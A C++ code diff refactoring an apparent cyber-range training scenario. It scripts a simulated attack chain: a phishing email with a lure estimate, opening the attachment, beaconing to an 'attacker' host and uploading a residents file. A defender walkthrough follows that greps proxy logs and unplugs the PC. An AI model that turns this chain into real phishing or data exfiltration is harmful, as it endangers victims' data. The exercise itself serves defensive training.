@@ -78,33 +78,34 @@ inline dsl::Scenario first_light(const std::filesystem::path &directory) {
     const auto lure = directory / "estimate.txt";
     std::ofstream(lure) << "お見積書 an estimate\n";
 
-    scenario.attack = {
-        {"phish",
-         at(3min),
-         "",
+    const auto step = [&](const char *id, dsl::Trigger trigger, dsl::Verb verb,
+                          const char *technique) {
+        dsl::Step made;
+        made.id = id;
+        made.trigger = std::move(trigger);
+        made.verb = std::move(verb);
+        made.techniques = {technique};
+        scenario.attack.push_back(std::move(made));
+    };
+    step("phish", at(3min),
          dsl::SendMail{"attacker",
                        "taro@supplier.example",
                        "suzuki",
                        "【ご確認】お見積書の送付について",
                        {"鈴木様", "Dear Ms Suzuki"},
                        lure},
-         {"T1566.001"}},
-        {"open",
-         after("phish", 60s, 90s),
-         "",
-         dsl::OpenAttachment{"pc-suzuki", "phish"},
-         {"T1204.002"}},
-        {"beacon",
-         after("open", 5s),
-         "",
-         dsl::Beacon{"pc-suzuki", "attacker", "gate", "/news/update", {4s, 7s}},
-         {"T1071.001"}},
-        {"exfil",
-         after("beacon", 200s),
-         "beacon",
-         dsl::HttpUpload{"pc-suzuki", "attacker", "gate", "/home/suzuki/Documents/residents.csv"},
-         {"T1041"}},
-    };
+         "T1566.001");
+    step("open", after("phish", 60s, 90s), dsl::OpenAttachment{"pc-suzuki", "phish"}, "T1204.002");
+    step("beacon", after("open", 5s),
+         dsl::Beacon{"pc-suzuki", "attacker", "gate", "/news/update", {4s, 7s}}, "T1071.001");
+    step("exfil", after("beacon", 200s),
+         dsl::HttpUpload{.on = "pc-suzuki",
+                         .through = {},
+                         .to = "attacker",
+                         .via = "gate",
+                         .what = "/home/suzuki/Documents/residents.csv"},
+         "T1041");
+    scenario.attack.back().needs = "beacon";
     dsl::Inject call;
     call.id = "soc-call";
     call.trigger = after("beacon", 40s);
@@ -149,13 +150,15 @@ inline dsl::Scenario first_light(const std::filesystem::path &directory) {
 }
 
 inline dsl::Walkthrough knowing_team(bool unplugs = true) {
-    dsl::Walkthrough acts{
-        {after("soc-call", 15s), dsl::RunCommand{"gate", "grep update /var/log/squid/access.log"}},
-        {after("soc-call", 30s), dsl::GiveAnswer{"which-pc", "ＰＣ-Suzuki "}},
-        {after("soc-call", 75s), dsl::SubmitForm{"first-report", {{"what", "pc-suzuki"}}}},
+    dsl::Walkthrough acts;
+    const auto act = [&](dsl::Milliseconds delay, dsl::TeamAct what) {
+        acts.push_back({.trigger = after("soc-call", delay), .act = std::move(what)});
     };
+    act(15s, dsl::RunCommand{"gate", "grep update /var/log/squid/access.log"});
+    act(30s, dsl::GiveAnswer{"which-pc", "ＰＣ-Suzuki "});
+    act(75s, dsl::SubmitForm{"first-report", {{"what", "pc-suzuki"}}});
     if (unplugs)
-        acts.push_back({after("soc-call", 45s), dsl::SetCable{"pc-suzuki", false}});
+        act(45s, dsl::SetCable{"pc-suzuki", false});
     return acts;
 }
 
